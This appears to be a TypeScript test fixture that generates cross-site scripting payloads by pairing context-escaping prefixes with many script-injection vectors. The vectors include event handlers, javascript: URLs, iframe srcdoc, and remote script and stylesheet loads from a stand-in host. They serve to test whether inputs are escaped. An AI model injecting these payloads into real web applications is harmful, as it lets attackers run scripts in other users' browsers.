/** Texts that break out of their context: between tags, in an attribute, a script, a style, a comment, a title … */
const contexts = [
  '',
  '"><',
  "'>",
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</iframe>',
  '--!>',
  ']]>',
  '`',
  '\\u0022>',
  '</p>',
]

/** Each element that they would make has the attribute `xq`, and what they would run sets `xq` on the window. */
const vectors = [
  '<script xq>xq=1</script>',
  '<ScRiPt/xq>xq=1</ScRiPt>',
  '<script xq src=//xq.test/x></script>',
  '<img xq src=x onerror=xq=1>',
  '<img xq src=x onerror="xq=1"',
  '<svg xq onload=xq=1>',
  '<svg/xq/onload=xq=1>',
  '<svg xq><script>xq=1</script></svg>',
  '<svg xq><animate onbegin=xq=1>',
  '<math xq><mtext><script>xq=1</script>',
  '<body xq onload=xq=1>',
  '<iframe xq srcdoc="<script>top.xq=1</script>">',
  '<iframe xq src="javascript:top.xq=1">',
  '<object xq data="javascript:xq=1">',
  '<embed xq src="javascript:xq=1">',
  '<details xq open ontoggle=xq=1>',
  '<input xq autofocus onfocus=xq=1>',
  '<video xq><source onerror=xq=1>',
  '<audio xq src=x onerror=xq=1>',
  '<a xq href="javascript:xq=1">x</a>',
  '<a xq href="java&#9;script:xq=1">x</a>',
  '<form xq action="javascript:xq=1">',
  '<button xq formaction="javascript:xq=1">',
  '<base xq href="//xq.test/">',
  '<meta xq http-equiv=refresh content="0;//xq.test">',
  '<link xq rel=stylesheet href=//xq.test>',
  '<style xq>@import"//xq.test";*{color:red}</style>',
  '<style xq onload=xq=1></style>',
  '<template xq><script>xq=1</script>',
  '" xq onmouseover="xq=1" x="',
  "' xq autofocus onfocus='xq=1' x='",
  'javascript:xq=1//',
  '${xq=1}{{constructor.constructor("xq=1")()}}',
  '\\x3cscript xq\\x3exq=1\\x3c/script\\x3e',
]

/** Texts of an attacker to have a script run in the browser of a reader: each vector in each context. */
export const scriptAttacks: readonly string[] = contexts.flatMap((context) =>
  vectors.map((vector) => `${context}${vector}`),
)

/** Gives them out one after the other, and begins again when all were given. */
export function attacksInTurn() {
  let input = 0
  /** The attack, as many signs as fit into a field of this length. */
  const take = (length: number): string => {
    let text = ''
    for (;;) {
      const next = scriptAttacks[input % scriptAttacks.length]!
      if (text.length + next.length > length) return text
      text += next
      input += 1
    }
  }
  return { take, count: () => input }
}
